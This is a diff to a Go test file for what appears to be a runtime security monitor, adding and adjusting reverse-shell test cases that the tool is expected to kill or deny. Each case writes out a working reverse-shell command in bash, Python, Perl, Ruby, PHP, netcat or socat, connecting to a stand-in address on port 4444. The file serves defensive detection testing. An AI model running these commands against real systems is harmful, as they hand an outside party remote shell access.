@@ -19,15 +19,22 @@ func attacks() []attackCase {
 	return slices.Concat(reverseShells(), mining(), naming(), execution(), escapes(), credentials(), persistence(), hiding(), others())
 }
 
+// Most command lines give a reverse shell away: the agent ends the process before it comes to
+// the shell, or the kernel sees a shell on a connection first. What stands in a file only the
+// kernel sees.
 func reverseShells() []attackCase {
 	shell := []string{"reverse-shell"}
 	return []attackCase{
-		{name: "reverse-bash", script: timed + `bash -c 'bash -i >& /dev/tcp/203.0.113.5/4444 0>&1'`, rules: shell, least: high, outcome: bollwerk.Killed},
+		{name: "reverse-file-bash", script: `printf 'exec 5<>/dev/tcp/203.0.113.5/4444\nsh -i <&5 >&5 2>&5\n' > /tmp/r; ` + timed + `bash /tmp/r`,
+			rules: shell, least: high, outcome: bollwerk.Killed, lsm: bollwerk.Denied, noShell: true},
+		{name: "reverse-file-python", script: `printf 'import socket,os\ns=socket.socket()\ns.connect(("203.0.113.5",4444))\nfor f in (0,1,2): os.dup2(s.fileno(),f)\nos.execv("/bin/sh",["sh","-i"])\n' > /tmp/r; ` + timed + `python3 /tmp/r`,
+			rules: shell, least: high, outcome: bollwerk.Killed, lsm: bollwerk.Denied, noShell: true},
+		{name: "reverse-bash", script: timed + `bash -c 'bash -i >& /dev/tcp/203.0.113.5/4444 0>&1'`, rules: shell, least: high, outcome: bollwerk.Killed, first: true},
 		{name: "reverse-fifo", script: timed + `bash -c 'rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 203.0.113.5 4444 > /tmp/f'`, rules: shell, least: high, outcome: bollwerk.Killed},
-		{name: "reverse-python", script: timed + `python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("203.0.113.5",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];os.execv("/bin/sh",["sh","-i"])'`, rules: shell, least: high, outcome: bollwerk.Killed},
+		{name: "reverse-python", script: timed + `python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("203.0.113.5",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];os.execv("/bin/sh",["sh","-i"])'`, rules: shell, least: high, outcome: bollwerk.Killed, first: true},
 		{name: "reverse-python-pty", script: timed + `python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("203.0.113.5",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")'`, rules: shell, least: high, outcome: bollwerk.Killed},
-		{name: "reverse-perl", script: timed + `perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));connect(S,sockaddr_in(4444,inet_aton("203.0.113.5")));open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");'`, rules: shell, least: high, outcome: bollwerk.Killed},
-		{name: "reverse-ruby", script: timed + `ruby -rsocket -e 'c=TCPSocket.new("203.0.113.5",4444);exec("/bin/sh",:in=>c,:out=>c,:err=>c)'`, rules: shell, least: high, outcome: bollwerk.Killed},
+		{name: "reverse-perl", script: timed + `perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));connect(S,sockaddr_in(4444,inet_aton("203.0.113.5")));open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");'`, rules: shell, least: high, outcome: bollwerk.Killed, first: true},
+		{name: "reverse-ruby", script: timed + `ruby -rsocket -e 'c=TCPSocket.new("203.0.113.5",4444);exec("/bin/sh",:in=>c,:out=>c,:err=>c)'`, rules: shell, least: high, outcome: bollwerk.Killed, first: true},
 		{name: "reverse-php", script: timed + `php -r '$s=fsockopen("203.0.113.5",4444);proc_close(proc_open("/bin/sh -i",[0=>$s,1=>$s,2=>$s],$p));'`, rules: shell, least: high, outcome: bollwerk.Killed},
 		{name: "reverse-socat", script: timed + `socat tcp:203.0.113.5:4444 exec:'/bin/sh -i',pty,stderr`, rules: shell, least: high, outcome: bollwerk.Killed},
 		{name: "reverse-socat-plain", script: timed + `socat tcp:203.0.113.5:4444 exec:/bin/sh`, rules: shell, least: high, outcome: bollwerk.Killed},
